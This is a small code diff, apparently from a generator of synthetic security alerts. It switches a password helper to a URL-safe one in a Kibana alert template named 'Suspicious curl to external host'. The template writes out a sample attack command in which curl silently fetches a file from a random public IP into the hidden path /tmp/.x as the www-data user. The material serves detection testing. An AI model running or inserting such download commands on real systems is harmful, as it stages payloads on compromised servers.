@@ -28,6 +28,7 @@ import {
   spread,
   type Template,
   tick,
+  urlPass,
   user,
   utf16le,
   uuid,
@@ -189,7 +190,7 @@ const TEMPLATES: Template[] = [
           "kibana.alert.rule.name": "Suspicious curl to external host",
           "host.name": host(),
           "process.command_line": `curl -s -o /tmp/.x https://upload:${
-            pass(add)
+            urlPass(add)
           }@${pubIp()}:8443/drop/${hex(8)}`,
           "process.parent.name": "bash",
           "user.name": "www-data",
